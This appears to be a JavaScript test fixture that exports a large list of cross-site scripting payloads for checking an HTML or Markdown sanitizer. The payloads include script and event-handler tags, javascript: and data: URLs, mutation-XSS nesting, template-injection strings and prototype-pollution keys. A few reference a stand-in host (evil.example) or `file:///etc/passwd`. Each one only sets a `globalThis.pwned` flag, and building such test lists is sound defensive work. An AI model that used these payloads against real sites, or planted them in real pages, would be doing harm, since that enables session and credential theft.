// xss.mjs: texts that want to be more than text: over 200 of them, each of which would set `globalThis.pwned` or open a
// dialog if some part of it ever became an element, an attribute or an address.
//
// SPDX-License-Identifier: MIT
const act = "globalThis.pwned=1";

const elements = [
  `<script>${act}</script>`, `<SCRIPT>${act}</SCRIPT>`, `<script src=data:,${act}></script>`, `<script/x>${act}</script>`, `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<img src=x onerror=${act}>`, `<img src=x onerror="${act}">`, `<IMG SRC=x OnErRoR=${act}>`, `<img/src=x/onerror=${act}>`, `<img src=x:x onerror\n=\n"${act}">`,
  `<svg onload=${act}>`, `<svg/onload=${act}>`, `<svg><script>${act}</script></svg>`, `<svg><animate onbegin=${act} attributeName=x dur=1s>`, `<svg><set onbegin=${act}>`,
  `<svg><a xlink:href="javascript:${act}"><text x=9 y=9>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${act} />#x">`,
  `<svg><foreignObject><body onload=${act}></foreignObject></svg>`, `<math><mtext><script>${act}</script></mtext></math>`, `<math href="javascript:${act}">x</math>`,
  `<body onload=${act}>`, `<body onpageshow=${act}>`, `<iframe src="javascript:${act}"></iframe>`, `<iframe srcdoc="<script>${act}</script>"></iframe>`, `<iframe onload=${act}>`,
  `<object data="javascript:${act}">`, `<object data="data:text/html,<script>${act}</script>">`, `<embed src="javascript:${act}">`, `<applet code="javascript:${act}">`,
  `<video><source onerror=${act}></video>`, `<video src=x onerror=${act}>`, `<audio src=x onerror=${act}>`, `<video poster="javascript:${act}">`, `<input autofocus onfocus=${act}>`,
  `<select autofocus onfocus=${act}>`, `<textarea autofocus onfocus=${act}>`, `<keygen autofocus onfocus=${act}>`, `<details open ontoggle=${act}>`, `<marquee onstart=${act}>`,
  `<button popovertarget=x>x</button><div popover id=x onbeforetoggle=${act}>`, `<a href="javascript:${act}">x</a>`, `<a href="java&#115;cript:${act}">x</a>`, `<a href=" javascript:${act}">x</a>`,
  `<a href="data:text/html,<script>${act}</script>">x</a>`, `<a onclick=${act} href=#>x</a>`, `<form action="javascript:${act}"><button>x</button></form>`, `<button formaction="javascript:${act}">x</button>`,
  `<isindex type=image src=1 onerror=${act}>`, `<base href="javascript:/a/-${act}//">`, `<link rel=stylesheet href="javascript:${act}">`, `<link rel=import href="data:text/html,<script>${act}</script>">`,
  `<meta http-equiv=refresh content="0;url=javascript:${act}">`, `<meta http-equiv=refresh content="0;url=https://evil.example/">`, `<style>@import "javascript:${act}";</style>`, `<style>*{background:url("javascript:${act}")}</style>`,
  `<div style="background:url(javascript:${act})">x</div>`, `<div style="width:expression(${act})">x</div>`, `<xss onafterscriptexecute=${act}>`, `<x onfocus=${act} tabindex=1 autofocus>`,
  `<template><script>${act}</script></template>`, `<noscript><p title="</noscript><img src=x onerror=${act}>">`, `<table background="javascript:${act}">`, `<portal src="javascript:${act}">`, `<dialog open onclose=${act}>x</dialog>`,
];

const nested = [
  `</p></div><img src=x onerror=${act}>`, `"><img src=x onerror=${act}>`, `'><img src=x onerror=${act}>`, `--><img src=x onerror=${act}>`, `]]><img src=x onerror=${act}>`, `</textarea><img src=x onerror=${act}>`,
  `</title><script>${act}</script>`, `<!--<img src="--><img src=x onerror=${act}>">`, `<![CDATA[<img src=x onerror=${act}>]]>`, `<?xml version="1.0"?><script>${act}</script>`, `<!DOCTYPE x [<!ENTITY y "<script>${act}</script>">]>&y;`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`, `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`, `<svg></p><style><a id="</style><img src=1 onerror=${act}>">`,
  `<svg><style>&lt;img src=x onerror=${act}&gt;</style></svg>`, `<p id="</p><img src=x onerror=${act}>">`, `&lt;script&gt;${act}&lt;/script&gt;`, `&#60;script&#62;${act}&#60;/script&#62;`, `\\u003cscript\\u003e${act}\\u003c/script\\u003e`,
  `%3Cscript%3E${act}%3C/script%3E`, `＜script＞${act}＜/script＞`, `<\u200bscript>${act}</script>`, `<img src=x onerror=${act}//`, `{{constructor.constructor("${act}")()}}`, `\${${act}}`, `{@html "<img src=x onerror=${act}>"}`, `#{${act}}`, `<%= ${act} %>`,
  `{"__proto__":{"pwned":1}}`, `__proto__`, `constructor`, `javascript:${act}`, `javascript://example.org/%0a${act}`, `//evil.example/x.js`,
];

const addresses = [
  `javascript:${act}`, `JaVaScRiPt:${act}`, `java\tscript:${act}`, `\u0001javascript:${act}`, ` javascript:${act}`, `javascript&colon;${act}`, `javascript&#58;${act}`, `&#106;avascript:${act}`, `\\javascript:${act}`, `java%73cript:${act}`, `vbscript:${act}`,
  `data:text/html,<script>${act}</script>`, `data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnB3bmVkPTE8L3NjcmlwdD4=`, `blob:https://example.org/${act}`, `file:///etc/passwd`, `feed:javascript:${act}`, `view-source:javascript:${act}`, `https://x" onmouseover="${act}`, `https://x' onmouseover='${act}`,
  `https://example.org/<img src=x onerror=${act}>`,
];
const places = [
  (address) => `[click](${address})`,
  (address) => `[click](<${address}>)`,
  (address) => `![picture](${address})`,
  (address) => `[click][ref]\n\n[ref]: ${address}`,
  (address) => `<${address}>`,
];

const marked = [
  `**<img src=x onerror=${act}>**`, `*<script>${act}</script>*`, `~~<svg onload=${act}>~~`, `\`<img src=x onerror=${act}>\``, `# <img src=x onerror=${act}>`, `> <img src=x onerror=${act}>`, `- <img src=x onerror=${act}>`, `1. <img src=x onerror=${act}>`,
  `- [x] <img src=x onerror=${act}>`, `\`\`\`html\n<script>${act}</script>\n\`\`\``, `\`\`\`js\n</code></pre><img src=x onerror=${act}>\n\`\`\``, `\`\`\`"><img src=x onerror=${act}>\ncode\n\`\`\``, `\`\`\`js onload=${act}\ncode\n\`\`\``, `\`\`\`__proto__\ncode\n\`\`\``, `\`\`\`constructor\ncode\n\`\`\``,
  `| <img src=x onerror=${act}> |\n|---|\n| <script>${act}</script> |`, `[<img src=x onerror=${act}>](https://example.org)`, `[x](https://example.org "<img src=x onerror=${act}>")`, `[x](https://example.org '"onmouseover=${act}')`, `[a](https://example.org)[b](javascript:${act})`,
  `[[x]](javascript:${act})`, `[x\\](javascript:${act})](https://example.org)`, `@here<img src=x onerror=${act}>`, `@<script>${act}</script>`, `#general<img src=x onerror=${act}>`, `#general" onclick="${act}`, `😀<img src=x onerror=${act}>`, `:<img src=x onerror=${act}>:`,
  `https://example.org/"onmouseover="${act}`, `www.example.org/'><img src=x onerror=${act}>`, `mailto:a@b.org?body=<script>${act}</script>`, `<https://example.org/"onmouseover="${act}>`, `**[x](javascript:${act})**`, `> [x](data:text/html,${act})`,
];

export const payloads = [...elements, ...nested, ...places.flatMap((place) => addresses.map(place)), ...marked];
